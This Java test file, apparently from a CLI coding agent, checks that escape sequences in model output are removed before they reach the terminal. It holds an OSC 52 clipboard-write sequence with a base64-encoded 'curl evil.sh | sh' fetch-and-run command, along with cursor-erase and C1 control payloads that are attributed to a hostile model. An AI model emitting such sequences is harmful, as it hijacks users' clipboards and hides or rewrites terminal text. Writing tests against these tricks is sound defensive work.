package dev.dockhand.cli;

import static dev.dockhand.core.testing.Sse.answer;
import static dev.dockhand.core.testing.Sse.calls;
import static dev.dockhand.core.testing.Sse.toolCall;
import static org.junit.jupiter.api.Assertions.assertEquals;

import com.fasterxml.jackson.databind.JsonNode;
import dev.dockhand.cli.environment.ExitCodes;
import dev.dockhand.core.Json;
import java.nio.file.Files;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Text the model or a project chose reaches the user's terminal without its escape sequences, whichever line forgot
 * to clean it: an OSC 52 would write the clipboard, a cursor move would rewrite what a line above says. Hand-written
 * sequences, as a hostile model would send them.
 */
class TerminalInjectionTest extends CliTest {
    private static final String CLIPBOARD = "\u001B]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
    private static final String ERASE_LINE_ABOVE = "\u001B[1A\u001B[2K";

    @Test
    void theModelsAnswerOnStdoutLosesItsEscapeSequences() {
        cli.model.enqueue(answer("Done." + CLIPBOARD + ERASE_LINE_ABOVE + " All tests pass."));

        assertEquals(ExitCodes.OK, cli.run("--sandbox", "none", "-p", "hi"));

        assertEquals("Done. All tests pass.\n", cli.out.toString());
    }

    @Test
    void aRefusedCallsLineOnStderrShowsTheCommandWithoutThem() {
        cli.model.enqueue(calls(toolCall(
                "c1",
                "run_shell_command",
                Json.object().put("command", "echo " + CLIPBOARD + "hi").toString())));
        cli.model.enqueue(answer("I could not run it."));

        assertEquals(ExitCodes.APPROVAL_REQUIRED, cli.run("--sandbox", "none", "-p", "hi"));

        List<String> refused = cli.err
                .toString()
                .lines()
                .filter(line -> line.startsWith("dockhand: refused"))
                .toList();
        assertEquals(
                List.of("dockhand: refused run_shell_command echo hi: it needs approval; rerun with --yolo or"
                        + " --allowed-tools run_shell_command to allow it."),
                refused);
    }

    /**
     * A file's line with the one-character forms of OSC (U+009D), which would make a terminal filter swallow the rest
     * of the line, and of CSI (U+009B), which would eat the {@code ","t} after it: the JSON would no longer parse.
     */
    private static final String C1_LINE = "left\u009D]52;c;eA==\u0007 then\u009B\",\"t right";

    /** The model reads the file and quotes the line in its answer. */
    private void readAndQuoteTheC1Line() throws Exception {
        Files.writeString(cli.workspace.resolve("notes.txt"), C1_LINE + "\n");
        cli.model.enqueue(calls(toolCall("r1", "read_file", "{\"path\":\"notes.txt\"}")));
        cli.model.enqueue(answer("It says: " + C1_LINE));
    }

    @Test
    void streamJsonCarriesC1ControlsEscapedAndReadsBackWhole() throws Exception {
        readAndQuoteTheC1Line();

        assertEquals(ExitCodes.OK, cli.run("--output-format", "stream-json", "-p", "what does notes.txt say?"));

        String stdout = cli.out.toString();
        assertEquals(List.of(), unescapedControls(stdout));
        List<JsonNode> lines = stdout.lines().map(Json::read).toList();
        StringBuilder text = new StringBuilder();
        lines.stream()
                .filter(line -> line.get("type").asText().equals("text"))
                .forEach(line -> text.append(line.get("text").asText()));
        assertEquals("It says: " + C1_LINE, text.toString());
        JsonNode result = lines.stream()
                .filter(line -> line.get("type").asText().equals("tool_result"))
                .findFirst()
                .orElseThrow();
        assertEquals("     1\t" + C1_LINE + "\n", result.get("result").asText());
        assertEquals(
                "It says: " + C1_LINE, lines.get(lines.size() - 1).get("answer").asText());
    }

    @Test
    void jsonCarriesC1ControlsEscapedAndReadsBackWhole() throws Exception {
        readAndQuoteTheC1Line();

        assertEquals(ExitCodes.OK, cli.run("--output-format", "json", "-p", "what does notes.txt say?"));

        String stdout = cli.out.toString();
        assertEquals(List.of(), unescapedControls(stdout));
        JsonNode result = Json.read(stdout);
        assertEquals("It says: " + C1_LINE, result.get("answer").asText());
        assertEquals(
                "     1\t" + C1_LINE + "\n",
                result.get("tool_calls").get(0).get("result").asText());
    }

    /** The control characters of {@code text} other than its line ends, as code points. */
    private static List<Integer> unescapedControls(String text) {
        return text.chars()
                .filter(c -> c != '\n' && Character.getType(c) == Character.CONTROL)
                .boxed()
                .toList();
    }

    @Test
    void streamJsonKeepsTheTextWhole() {
        cli.model.enqueue(answer("Done." + CLIPBOARD));

        assertEquals(ExitCodes.OK, cli.run("--sandbox", "none", "--output-format", "stream-json", "-p", "hi"));

        StringBuilder text = new StringBuilder();
        cli.out
                .toString()
                .lines()
                .map(Json::read)
                .filter(line -> line.get("type").asText().equals("text"))
                .forEach(line -> text.append(line.get("text").asText()));
        assertEquals("Done." + CLIPBOARD, text.toString());
    }
}
